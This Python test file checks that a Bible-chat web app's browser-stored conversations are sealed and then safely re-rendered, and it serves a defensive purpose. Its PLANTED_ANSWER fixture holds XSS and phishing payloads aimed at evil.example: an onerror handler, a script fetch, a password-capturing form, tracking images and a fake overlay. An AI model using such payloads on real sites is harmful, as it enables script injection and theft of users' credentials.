"""The conversation kept in the browser (issues 22 and 32): sealed on its way out; on its way back nothing is trusted:
opened only with this server's seal, checked, capped and rendered again from plain text as a live answer."""

from __future__ import annotations

import json
import logging
from html.parser import HTMLParser
from types import SimpleNamespace

import gradio as gr
import pytest

from pastor.web import chatview, saved
from pastor.web.browser_keys import VERSION, BrowserKeys
from pastor.web.conversation import Conversation, Exchange
from pastor.web.ratelimit import RateLimiter
from pastor.web.runtime import Runtime
from tests.support.app_fixtures import SpyProvider, app_settings

KEYS = BrowserKeys.from_secret("segredo-de-teste-desta-implantacao")


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    """A runtime on the tiny corpus (25 verses, keyword search), the lexicon router, a scripted model."""
    from pastor.web.handlers import Handlers

    provider = SpyProvider(chunk=5)
    settings = app_settings(
        tmp_path_factory.mktemp("saved"),
        PASTOR_BACKGROUND_INDEX="false",
        PASTOR_SEMANTIC_ROUTER="false",
        PASTOR_SCOPE_CLASSIFIER="false",
    )
    runtime = Runtime(settings, provider=provider).start(background=False)
    assert runtime.phase == "ready", runtime.health.records()
    runtime.limiter = RateLimiter(0)
    kept = saved.KeptConversation(runtime, KEYS, wait_seconds=0)
    return SimpleNamespace(runtime=runtime, provider=provider, handlers=Handlers(runtime), kept=kept)


@pytest.fixture
def app(loaded):
    loaded.provider.reset()
    yield loaded
    loaded.provider.reset()


def request(session: str = "navegador-1"):
    return SimpleNamespace(session_hash=session, client=SimpleNamespace(host="10.0.0.1"), headers={})


def turn(app, message: str, chat: list, convo: Conversation, session: str = "navegador-1"):
    """(chat, conversation) after one question, as the page holds them."""
    final = list(app.handlers.respond(message, chat, convo, request(session)))[-1]
    return final[0], final[4]


def through_the_browser(value):
    """What comes back from localStorage: the same JSON, its keys in any order."""
    return json.loads(json.dumps(value, ensure_ascii=False))


def sealed(*exchanges: Exchange, **changes) -> dict:
    """A value sealed with this deployment's keys: what the browser holds after a turn (or a hand-made one)."""
    convo = Conversation(last="pergunta", last_mode="rag", exchanges=exchanges)
    payload = convo.to_browser(len(exchanges) * 3)
    payload.update(changes)
    return KEYS.sealed(payload)


def like(index: int):
    return SimpleNamespace(index=index, liked=True, value=None)


# == the same page after a reload ====================================================================
def test_a_conversation_comes_back_exactly_as_it_was_shown_in_every_kind_of_turn(app):
    """Live turns of every kind (a cited answer, a crisis reply, verses without the model, an answer cut in the
    middle, a refusal of advice, no evidence, small talk, a regenerated answer), saved and brought back: the
    chat is the live one, message for message, and each turn id sits at its answer and sources."""
    app.provider.enqueue(
        "Não tenha medo do amanhã: veja Mateus 6:34 e também Hezequias 3:16. <b>Deus</b> cuida.",
        {"error": "timeout"},
        {"error": "stream", "text": "Entregue a Ele sua ansiedade, como diz 1 Pedro 5:7, e"},
        "Olá! Estou aqui com você.",
        "Primeira resposta sobre perdão.",
        "Perdoe como foi perdoado: Colossenses 3:13 e Efésios 4:32.",
    )
    chat, convo = [], Conversation()
    for message in (
        "Estou com medo do futuro",
        "não aguento mais, quero sumir de vez",
        "Estou ansioso com o trabalho",
        "Estou preocupado com a minha família",
        "qual remédio devo tomar para dor de cabeça?",
        "como fazer pão de queijo?",
        "Olá",
        "Como perdoar quem me feriu?",
    ):
        chat, convo = turn(app, message, chat, convo)
    chat, convo = list(app.handlers.regenerate(chat, convo, request()))[-1][0::4]
    modes = {exchange.mode for exchange in convo.exchanges}
    assert {"lexical_fallback", "crisis", "provider_unavailable", "out_of_scope", "no_evidence"} <= modes, modes
    assert "conversational" in modes and len(convo.exchanges) == 8  # the regenerated answer replaced its first

    back, state, notice, kept = app.kept.restore(through_the_browser(app.kept.snapshot(convo)))
    differences = [
        (i, m["content"][:300], b["content"][:300]) for i, (m, b) in enumerate(zip(chat, back, strict=False)) if m != b
    ]
    assert len(back) == len(chat) and differences == []
    assert state.turn_ids == convo.turn_ids and notice == "" and kept == gr.skip()
    assert (state.history, state.last, state.last_mode) == (convo.history, convo.last, convo.last_mode)
    assert 'href="#fonte-' in back[1]["content"] and "Hezequias" not in back[1]["content"]  # removed live
    assert "&lt;b>Deus" in back[1]["content"]  # the model's HTML is text, as it was live


def test_a_rating_after_a_reload_reaches_the_turn_that_answered(app):
    chat, convo = turn(app, "Estou com medo do futuro", [], Conversation())
    _, state, _, _ = app.kept.restore(through_the_browser(app.kept.snapshot(convo)))
    notice, rated, _ = app.handlers.like(state, like(2))  # the sources accordion of the answer
    assert "Obrigado" in notice and rated.rated.turn_id == convo.turn_ids[1]


def test_a_long_conversation_keeps_its_most_recent_exchanges_within_the_cap_on_both_ways():
    exchanges = [
        Exchange(f"pergunta {n}", f"resposta {n}", f"turno{n}", "rag", (("verse", "MAT 6:34"),)) for n in range(30)
    ]
    kept = Conversation(exchanges=tuple(exchanges)).to_browser(saved.MAX_MESSAGES)["exchanges"]
    assert [e["question"] for e in kept] == [f"pergunta {n}" for n in range(10, 30)]  # 20 × 3 messages


def test_a_long_session_keeps_in_its_state_only_what_the_browser_may_keep(app):
    from pastor.answer.history import History
    from pastor.answer.turn import TurnResult, TurnUpdate

    older = tuple(Exchange(f"pergunta {n}", f"resposta {n}", f"t{n}") for n in range(40))
    update = TurnUpdate("t-nova", "resposta nova", done=True, result=TurnResult())
    chat = [{"role": "user", "content": "pergunta nova"}, {"role": "assistant", "content": ""}]
    convo = app.handlers._final(update, "pergunta nova", History(), chat, 1, Conversation(exchanges=older))[4]
    assert len(convo.exchanges) == saved.MAX_MESSAGES // 2 and convo.exchanges[-1].turn_id == "t-nova"


def test_a_planted_flood_of_exchanges_is_capped_to_the_most_recent(app):
    """20,000 exchanges under a valid seal (the secret leaked, say) still give at most the page's cap."""
    flood = [Exchange(f"pergunta {n}", f"resposta {n}", f"t{n}") for n in range(20_000)]
    chat, state, _, _ = app.kept.restore(through_the_browser(sealed(*flood)))
    assert len(chat) == saved.MAX_MESSAGES and len(state.exchanges) == saved.MAX_MESSAGES // 2
    assert chat[-2]["content"] == "pergunta 19999" and state.turn_ids[saved.MAX_MESSAGES - 1] == "t19999"


# == what a planted value can and cannot do ===========================================================
PLANTED_ANSWER = (
    '<a href="https://login.evil.example/entrar">Mateus 6:34</a> [Mateus 6:34](https://login.evil.example) '
    "![rastreio](https://evil.example/p.png) <img src=https://evil.example/i.png onerror=alert(1)> "
    '<form action="https://evil.example/post"><input type="password" name="senha"></form> '
    '<div style="position:fixed;inset:0;z-index:9999">Ligue agora: 0800 000 0000</div> '
    "<style>body{background:url(https://evil.example/bg.png)}</style><script>fetch('//evil.example')</script> "
    "<iframe src=https://evil.example></iframe> www.evil.example pastor@evil.example "
    "Veja Mateus 6:34, João 3:16 e Hezequias 3:16."
)
# The tags the page writes itself (citations, sources, copy button, credits); an `a` only with these classes.
OURS = {"a": {"pastor-cite", "pastor-context"}, **dict.fromkeys(("span", "div", "button", "b", "br", "small"))}


class Tags(HTMLParser):
    """Every tag of a message with its attributes."""

    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def live_parts(content: str) -> list[str]:
    """What in a message could act in a browser: a tag or attribute the page does not write itself, a link
    that leaves the page, Markdown that would become a link or an image, an address an autolinker reads."""
    parser = Tags()
    parser.feed(content)
    problems = [f"<{tag}>" for tag, _ in parser.found if tag not in OURS]
    for tag, attrs in parser.found:
        if "style" in attrs or any(name.startswith("on") for name in attrs):
            problems.append(f"<{tag} {sorted(attrs)}>")
        if tag == "a" and (attrs.get("class") not in OURS["a"] or not attrs.get("href", "").startswith("#")):
            problems.append(f"<a {attrs}>")
    problems += [marker for marker in ("](", "![", "://", "www.", "@evil") if marker in content]
    return problems


def test_planted_html_markdown_links_images_forms_and_overlays_come_back_as_text(app):
    planted = Exchange(
        "<img src=https://evil.example/q.png> [entre](https://evil.example)",
        PLANTED_ANSWER,
        "turno-plantado",
        "rag",
        (("verse", "MAT 6:34"), ("verse", "XYZ 9:9"), ("doc", "igreja.md#1")),
        ("<b>nota</b> [aqui](https://evil.example)",),
    )
    chat, state, notice, _ = app.kept.restore(through_the_browser(sealed(planted)))
    assert notice == "" and len(chat) == 3
    problems = {index: live_parts(message["content"]) for index, message in enumerate(chat)}
    assert {index: found for index, found in problems.items() if found} == {}
    answer, sources = chat[1]["content"], chat[2]["content"]
    # Only the real verse among the exchange's own sources is a link; the others stay words.
    links = [(attrs["href"], attrs["class"]) for tag, attrs in _tags(answer) if tag == "a"]
    assert links == [("#" + chatview.anchor("turno-plantado", "MAT 6:34"), "pastor-cite")] * 3
    assert "João 3:16" in answer and "Hezequias 3:16" in answer and "Ligue agora" in answer
    assert "XYZ" not in sources and "igreja.md" not in sources and sources.count("pastor-source") == 1
    assert "nem se preocupem com o amanhã" in sources  # the verse's text read from the Bible, not from the browser


def _tags(content: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(content)
    return parser.found


# == values dropped, with a notice and one bounded line ========================================================
def test_a_value_not_sealed_here_is_dropped_with_a_notice_and_one_log_line(app, caplog):
    """A forged turn id (another browser's real turn), a value sealed by another deployment, the format of
    before (the chat as HTML under a public key), a hand edit, a value Gradio could not decrypt, a malformed
    exchange under a valid seal: each gives an empty chat, the short notice, one log line without the value,
    and the browser's copy forgotten. Rating an answer of that chat is refused."""
    _, theirs = turn(app, "Como perdoar quem me feriu?", [], Conversation(), session="outro-navegador")
    _, mine = turn(app, "Estou com medo do futuro", [], Conversation())
    forged = through_the_browser(app.kept.snapshot(mine))
    forged["saved"]["exchanges"][0]["turn_id"] = theirs.exchanges[0].turn_id
    edited = through_the_browser(app.kept.snapshot(mine))
    edited["saved"]["exchanges"][0]["answer"] += " Ligue agora: 0800 000 0000"
    other = BrowserKeys.from_secret("segredo-de-outra-implantacao").sealed(app.kept.snapshot(mine)["saved"])
    before = {"chat": [{"role": "assistant", "content": "<a href='https://evil.example'>Mateus 6:34</a>"}]}
    rows = {
        "turno forjado": forged,
        "outra implantação": other,
        "formato de antes": before,
        "editado à mão": edited,
        "sem selo": {"version": VERSION, "saved": forged["saved"]},
        "não decifrado": saved.UNDECRYPTED,
        "troca malformada": sealed(exchanges=[{"question": 1}]),
        "texto": "texto",
    }
    failing = {}
    for name, value in rows.items():
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger="pastor.web"):
            chat, state, notice, kept = app.kept.restore(value)
        lines = [r.getMessage() for r in caplog.records]
        rated = app.handlers.like(state, like(1))[0]
        if (chat, state, kept) != ([], Conversation(), {}) or saved.DROPPED not in notice:
            failing[name] = (chat, state, notice, kept)
        elif len(lines) != 1 or len(lines[0]) > 80 or "0800" in lines[0] or theirs.exchanges[0].turn_id in lines[0]:
            failing[name] = lines
        elif "Não foi possível registrar" not in rated:
            failing[name] = rated
    assert failing == {}


def test_nothing_kept_and_a_forgotten_conversation_start_empty_without_a_notice(app):
    assert app.kept.snapshot(Conversation()) is None
    for value in (None, app.kept.forget()):
        assert app.kept.restore(value) == ([], Conversation(), "", gr.skip())


def test_before_the_bible_is_loaded_the_kept_value_waits_for_a_later_visit(tmp_path):
    runtime = Runtime(app_settings(tmp_path))  # never started: no engine
    kept = saved.KeptConversation(runtime, KEYS, wait_seconds=0)
    chat, state, notice, stored = kept.restore(sealed(Exchange("pergunta", "resposta", "t1")))
    assert (chat, state, stored) == ([], Conversation(), gr.skip()) and "recarregue" in notice


def test_what_the_browser_keeps_is_exactly_this_json():
    """The stored format: its keys and their types (a test that fails when it changes, so that a change of
    format is a change of `VERSION`, which drops the values of before with a notice)."""
    exchange = Exchange("Estou com medo", "Não temas ✝", "abc", "rag", (("verse", "ISA 41:10"),), ("nota",), "blivre")
    convo = Conversation(last="Estou com medo", last_mode="rag", exchanges=(exchange,))
    payload = json.dumps(saved.KeptConversation(SimpleNamespace(), KEYS).snapshot(convo)["saved"], ensure_ascii=False)
    assert payload == (
        '{"history": [], "exchanges": [{"question": "Estou com medo", "answer": "Não temas ✝", "turn_id": "abc", '
        '"mode": "rag", "sources": [["verse", "ISA 41:10"]], "notes": ["nota"], "translation": "blivre", '
        '"failed": false}], "last": "Estou com medo", "last_mode": "rag"}'
    )
